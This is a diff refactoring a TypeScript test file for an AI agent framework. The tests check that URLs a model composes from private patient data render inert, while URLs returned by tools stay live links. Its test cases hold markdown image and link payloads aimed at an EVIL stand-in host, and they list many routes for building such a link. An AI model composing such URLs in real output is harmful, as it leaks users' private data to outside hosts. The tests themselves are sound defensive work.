@@ -1,7 +1,7 @@
 import { callable } from "../support/called-agents.ts";
 import { tool } from "ai";
 import { marked } from "marked";
-import { describe, expect, it } from "vitest";
+import { expect, it } from "vitest";
 import * as z from "zod";
 import { codeTool } from "../../packages/code/src/code-tool.ts";
 import type { Agent } from "../../src/turn/agent.ts";
@@ -32,18 +32,12 @@ const agent: Agent = {
   },
 };
 
-interface Said {
-  readonly calls: readonly (readonly Part[])[];
-  readonly answer: string;
-  /** The answer of the other agent, if it is asked. */
-  readonly other?: string;
-}
+/** Calls that the model makes, its answer, and the answer of the other agent if that is asked. */
+type Said = readonly [calls: readonly (readonly Part[])[], answer: string, other?: string];
 
 /** Returns the answer as HTML, as a page shows it. */
-async function htmlOf(
-  { calls, answer, other = "" }: Said,
-  chat = conversation(other),
-): Promise<string> {
+async function htmlOf(said: Said, chat = conversation(said[2] ?? "")): Promise<string> {
+  const [calls, answer] = said;
   if (chat.store.count() === 0)
     await chat.store.save({ name: "patients", value: [{ name: PRIVATE }] });
   const steps = calls.map((call) => [call, finish("tool-calls")]);
@@ -72,120 +66,65 @@ const set = (name: string, value: Json, mode = "replace") =>
   call("set_variable", { name, value, mode });
 const run = (code: string, variables = ["patients"]) => call("run_code", { code, variables });
 
-function links(html: string): string {
-  return (html.match(/<(?:a|img)\s[^>]*>/gi) ?? []).join("");
-}
+const links = (html: string): string => (html.match(/<(?:a|img)\s[^>]*>/gi) ?? []).join("");
 
-describe("a URL that a model composes from values is inert", () => {
-  it.each<[string, Said]>([
-    [
-      "in a variable that it sets",
-      { calls: [set("link", `![a](${EVIL}$patients[0].name)`)], answer: "$link" },
-    ],
-    [
-      "in a tool's result",
-      { calls: [call("echo", { v: `[a](${EVIL}$patients[0].name)` })], answer: "$echo" },
-    ],
-    [
-      "by code",
-      { calls: [run(`return "![a](${EVIL}" + patients[0].name + ")"`)], answer: "$run_code_1" },
-    ],
-    [
-      "by code that calls a tool",
-      {
-        calls: [run(`await tools.echo({ v: "${EVIL}" + patients[0].name }); return 1`)],
-        answer: "See $echo",
-      },
-    ],
-    [
-      "by another agent",
-      {
-        calls: [call("delegate", { agent: "other", task: "Go." })],
-        other: `Name: $patients[0].name ![a](${EVIL}${PRIVATE})`,
-        answer: "$delegate_other",
-      },
-    ],
-    [
-      "by appending",
-      {
-        calls: [
-          set("link", `![a](${EVIL}`),
-          set("link", "$patients[0].name", "append"),
-          set("link", ")", "append"),
-        ],
-        answer: "$link",
-      },
-    ],
-    [
-      "over the strings of an object",
-      {
-        calls: [set("o", { a: `![a](${EVIL}`, b: "$patients[0].name" })],
-        answer: "$o)",
-      },
-    ],
-    [
-      "in a copy of a copy",
-      {
-        calls: [
-          set("link", `${EVIL}$patients[0].name`),
-          set("o", { b: "$link" }),
-          run("return o.b", ["o"]),
-        ],
-        answer: "See $run_code_1",
-      },
-    ],
-  ])("%s", async (_, said) => {
-    const html = await htmlOf(said);
-    expect(html).toContain(PRIVATE);
-    expect(links(html)).not.toContain(PRIVATE);
-  });
+const asking = call("delegate", { agent: "other", task: "Go." });
+const listing = "return find.map(({ id, url }) => `- [Order ${id}](${url})`).join('\\n')";
+const calling = `await tools.echo({ v: "${EVIL}" + patients[0].name }); return 1`;
 
-  it("in a sealed value of any source", async () => {
-    const chat = conversation("");
-    await chat.store.save({ name: "s", value: `[a](${EVIL}${PRIVATE})`, visibility: "sealed" });
-    const html = await htmlOf({ calls: [], answer: "$s" }, chat);
-    expect(html).toContain(PRIVATE);
-    expect(links(html)).toBe("");
-  });
+it.each<[string, ...Said]>([
+  ["in a variable that it sets", [set("link", `![a](${EVIL}$patients[0].name)`)], "$link"],
+  ["in a tool's result", [call("echo", { v: `[a](${EVIL}$patients[0].name)` })], "$echo"],
+  ["by code", [run(`return "![a](${EVIL}" + patients[0].name + ")"`)], "$run_code_1"],
+  ["by code that calls a tool", [run(calling)], "See $echo"],
+  [
+    "by another agent",
+    ...([[asking], "$delegate_other", `Name: $patients[0].name ![a](${EVIL}${PRIVATE})`] as const),
+  ],
+  [
+    "by appending",
+    [set("l", `![a](${EVIL}`), set("l", "$patients[0].name", "append"), set("l", ")", "append")],
+    "$l",
+  ],
+  [
+    "over the strings of an object",
+    [set("o", { a: `![a](${EVIL}`, b: "$patients[0].name" })],
+    "$o)",
+  ],
+  [
+    "in a copy of a copy",
+    [set("l", `${EVIL}$patients[0].name`), set("o", { b: "$l" }), run("return o.b", ["o"])],
+    "See $run_code_1",
+  ],
+])("a URL that a model composes from values is inert %s", async (_, ...said) => {
+  const html = await htmlOf(said);
+  expect(html).toContain(PRIVATE);
+  expect(links(html)).not.toContain(PRIVATE);
 });
 
-describe("a URL that a tool returned is a link", () => {
-  it.each<[string, Said]>([
-    ["as it is", { calls: [call("find", {})], answer: "[one]($find[0].url) or $find[0].url" }],
-    ["in a table", { calls: [call("find", {})], answer: "$find" }],
-    ["in a copy", { calls: [call("find", {}), set("x", "$find[0].url")], answer: "$x" }],
-    [
-      "in a text",
-      {
-        calls: [call("find", {}), set("x", "At $find[0].url for $patients[0].name.")],
-        answer: "$x",
-      },
-    ],
-    [
-      "in a list that code makes",
-      {
-        calls: [
-          call("find", {}),
-          run("return find.map(({ id, url }) => `- [Order ${id}](${url})`).join('\\n')", ["find"]),
-        ],
-        answer: "$run_code_1",
-      },
-    ],
-    [
-      "that another agent passes on",
-      {
-        calls: [call("find", {}), call("delegate", { agent: "other", task: "Go." })],
-        other: "At $find[0].url",
-        answer: "$delegate_other",
-      },
-    ],
-  ])("%s", async (_, said) => {
-    expect(links(await htmlOf(said))).toContain('<a href="https://shop.example/1">');
-  });
+it("a URL that a model composes from values is inert in a sealed value of any source", async () => {
+  const chat = conversation("");
+  await chat.store.save({ name: "s", value: `[a](${EVIL}${PRIVATE})`, visibility: "sealed" });
+  const html = await htmlOf([[], "$s"], chat);
+  expect(html).toContain(PRIVATE);
+  expect(links(html)).toBe("");
+});
 
-  it("even if the tool received a composed URL, if its policy declassifies", async () => {
-    const shortening = [call("shorten", { v: `${EVIL}$patients[0].name` })];
-    const html = await htmlOf({ calls: shortening, answer: "$shorten" });
-    expect(links(html)).toBe('<a href="https://sho.rt/1">');
-  });
+const finding = call("find", {});
+
+it.each<[string, ...Said]>([
+  ["as it is", [finding], "[one]($find[0].url) or $find[0].url"],
+  ["in a table", [finding], "$find"],
+  ["in a copy", [finding, set("x", "$find[0].url")], "$x"],
+  ["in a text", [finding, set("x", "At $find[0].url for $patients[0].name.")], "$x"],
+  ["in a list that code makes", [finding, run(listing, ["find"])], "$run_code_1"],
+  ["that another agent passes on", [finding, asking], "$delegate_other", "At $find[0].url"],
+])("a URL that a tool returned is a link %s", async (_, ...said) => {
+  expect(links(await htmlOf(said))).toContain('<a href="https://shop.example/1">');
+});
+
+it("a URL that a tool returned is a link even if the tool received a composed URL, if its policy declassifies", async () => {
+  const shortening = [call("shorten", { v: `${EVIL}$patients[0].name` })];
+  const html = await htmlOf([shortening, "$shorten"]);
+  expect(links(html)).toBe('<a href="https://sho.rt/1">');
 });
